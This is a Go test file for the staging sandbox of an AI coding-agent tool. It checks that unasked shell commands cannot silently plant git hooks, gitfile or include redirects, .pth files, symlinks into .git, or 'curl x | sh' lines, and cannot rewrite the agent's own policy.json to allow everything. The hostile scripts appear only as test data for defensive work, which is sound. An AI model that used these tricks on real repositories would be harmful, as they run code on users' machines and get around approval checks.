package builtin

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"os/exec"

	sbexec "github.com/agentls/agentls/sandbox/exec"
	"github.com/agentls/agentls/sandbox/stage"
	"github.com/agentls/agentls/tools"
)

// stagedHarness is a workspace whose command `sh attack.sh` runs without
// asking (a user allow rule, as `go test` is allowed by the analyser):
// what the script writes is what an unasked `go test` could write.
type stagedHarness struct {
	*harness
	approver *recordingApprover
	protect  []string
	cp       *memCheckpoint
}

func newStagedHarness(t *testing.T, answer tools.Answer) *stagedHarness {
	t.Helper()
	if !testExec.Layers().Has(sbexec.LayerStaging) {
		t.Fatalf("staging is missing: %s", testExec.Layers().Missing[sbexec.LayerStaging])
	}
	if gocache, err := exec.Command("go", "env", "GOCACHE").Output(); err == nil { // the user's warm cache (S11)
		t.Setenv("GOCACHE", strings.TrimSpace(string(gocache)))
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	return &stagedHarness{harness: newHarness(t), approver: &recordingApprover{answer: answer},
		cp: &memCheckpoint{before: map[string]string{}, after: map[string]string{}}}
}

// run runs script as the unasked command `sh attack.sh`.
func (h *stagedHarness) run(t *testing.T, script string) tools.Result {
	t.Helper()
	h.write(t, "attack.sh", script)
	p := tools.DefaultPolicy(tools.ProfileEditor)
	p.Rules = []tools.Rule{mustRule(t, "run_command(sh attack.sh)", tools.Allow, "user")}
	env := h.env()
	env.Protected, env.Checkpoint = tools.NamedPaths(h.root, h.protect), h.cp
	raw, _ := json.Marshal(map[string]string{"command": "sh attack.sh"})
	res, err := newGateway(h.reg, env, &tools.GatewayOptions{Allowed: allTools.Allowed, Policy: p, Approver: h.approver}).
		Call(t.Context(), "run_command", string(raw))
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func (h *stagedHarness) exists(rel string) bool {
	_, err := os.Lstat(filepath.Join(h.root, rel))
	return err == nil
}

// memCheckpoint records what a merge keeps.
type memCheckpoint struct{ before, after map[string]string }

func (m *memCheckpoint) KeepAll(files []stage.Before) []error {
	for _, f := range files {
		m.before[f.Path] = string(f.Old)
		if !f.Exists {
			m.before[f.Path] = "<none>"
		}
	}
	return make([]error, len(files))
}

func (m *memCheckpoint) ChangedAll(files []stage.After) {
	for _, f := range files {
		m.after[f.Path] = f.Hash
		if !f.Exists {
			m.after[f.Path] = "<none>"
		}
	}
}

// Issue 21's attacks, each by a command that runs unasked: the held
// change is asked in one question with the warning, the user says no,
// and nothing of it reaches the workspace; the ordinary change beside it
// lands (S10).
func TestStaged_S10_AttacksAreHeld(t *testing.T) {
	cases := []struct {
		name, setup, script, held string
	}{
		{"nested gitfile", "", "mkdir -p vendor/lib && echo 'gitdir: ../../evil' > vendor/lib/.git", "vendor/lib/.git"},
		{"planted .git in a submodule dir", "", "mkdir -p vendor/lib/.git/hooks && echo 'curl x|sh' > vendor/lib/.git/hooks/post-checkout", "vendor/lib/.git"},
		{"core.hooksPath", "[core]\n\thooksPath = tools/hooks\n", "mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit", "tools/hooks"},
		{"include.path", "[include]\n\tpath = ../build.cfg\n", "printf '[core]\\n\\tfsmonitor = ./x\\n' > build.cfg", "build.cfg"},
		{".pth", "", "mkdir -p .venv/lib/python3.11/site-packages && echo 'import os' > .venv/lib/python3.11/site-packages/x.pth", ".venv/lib/python3.11/site-packages/x.pth"},
		{"top-level .git hooks", "", "echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"symlink into .git", "", "rm -rf docs && ln -s .git docs", "docs"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := newStagedHarness(t, tools.AnswerDeny)
			h.write(t, ".git/config", "[core]\n\tbare = false\n"+c.setup)
			os.MkdirAll(filepath.Join(h.root, ".git/hooks"), 0o755)
			h.write(t, "docs/readme.md", "docs\n")
			res := h.run(t, c.script+"\necho fine > ok.txt\n")
			if len(h.approver.reqs) != 1 {
				t.Fatalf("%d questions, want 1: %s", len(h.approver.reqs), res.Content)
			}
			q := h.approver.reqs[0]
			if !q.Control || q.Warning != StageWarning || !strings.Contains(q.Preview, c.held) {
				t.Errorf("question: control %v warning %q preview %q", q.Control, q.Warning, q.Preview)
			}
			if strings.HasPrefix(c.held, "docs") {
				if fi, _ := os.Lstat(filepath.Join(h.root, "docs")); fi == nil || !fi.IsDir() {
					t.Errorf("docs was replaced: %v", fi)
				}
			} else if c.held != ".git/hooks/pre-commit" && h.exists(c.held) || h.exists(".git/hooks/pre-commit") {
				t.Errorf("%s reached the workspace", c.held)
			}
			if !h.exists("ok.txt") {
				t.Errorf("the ordinary change did not land: %s", res.Content)
			}
			if !strings.Contains(res.Content, "the user did not approve") {
				t.Errorf("the model was not told: %s", res.Content)
			}
		})
	}
}

// S10: the script a trusted hook runs is held; approved, it lands.
func TestStaged_S10_HookScriptHeldThenApproved(t *testing.T) {
	h := newStagedHarness(t, tools.AnswerApprove)
	h.write(t, "scripts/audit-hook.sh", "echo audit\n")
	h.protect = []string{"sh scripts/audit-hook.sh"}
	h.run(t, "echo 'curl x | sh' > scripts/audit-hook.sh\n")
	if len(h.approver.reqs) != 1 || !strings.Contains(h.approver.reqs[0].Preview, "scripts/audit-hook.sh") {
		t.Fatalf("the hook's script was not held: %+v", h.approver.reqs)
	}
	if b, _ := os.ReadFile(filepath.Join(h.root, "scripts/audit-hook.sh")); string(b) != "curl x | sh\n" {
		t.Errorf("approved, the change did not land: %q", b)
	}
}

// S11: what the top-level rule refused now works unasked (a new file at
// the top, a new directory, a lock file), and the checkpoint keeps what
// each file was (S9).
func TestStaged_S11_OrdinaryWritesLandUnasked(t *testing.T) {
	h := newStagedHarness(t, tools.AnswerDeny)
	h.write(t, "main.go", "package main\nfunc main(){}\n")
	res := h.run(t, "echo lock > Cargo.lock && mkdir -p bin && echo app > bin/app && printf 'package main\\n\\nfunc main() {}\\n' > main.go && echo log | tee test.log\n")
	if res.IsError || len(h.approver.reqs) != 0 {
		t.Fatalf("asked %d or failed: %s", len(h.approver.reqs), res.Content)
	}
	for _, p := range []string{"Cargo.lock", "bin/app", "test.log"} {
		if !h.exists(p) {
			t.Errorf("%s did not land: %s", p, res.Content)
		}
	}
	if h.cp.before["main.go"] != "package main\nfunc main(){}\n" || h.cp.after["main.go"] != sha("package main\n\nfunc main() {}\n") {
		t.Errorf("checkpoint of main.go: before %q after %q", h.cp.before["main.go"], h.cp.after["main.go"])
	}
	if h.cp.before["Cargo.lock"] != "<none>" {
		t.Errorf("checkpoint of the new Cargo.lock: %q", h.cp.before["Cargo.lock"])
	}
	if !strings.Contains(res.Content, "[files added: ") || !strings.Contains(res.Content, "[files changed: main.go]") {
		t.Errorf("the model was not told what landed: %s", res.Content)
	}
}

// S10: agentls' own files are refused without a question.
func TestStaged_S10_OwnFilesRefused(t *testing.T) {
	h := newStagedHarness(t, tools.AnswerApprove)
	h.write(t, ".agentls/policy.json", "{}")
	res := h.run(t, "echo '{\"allow\":[\"*\"]}' > .agentls/policy.json\n")
	if b, _ := os.ReadFile(filepath.Join(h.root, ".agentls/policy.json")); string(b) != "{}" {
		t.Errorf("the policy changed: %q", b)
	}
	if len(h.approver.reqs) != 0 || !strings.Contains(res.Content, "refused") {
		t.Errorf("asked %d; result %s", len(h.approver.reqs), res.Content)
	}
}

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}
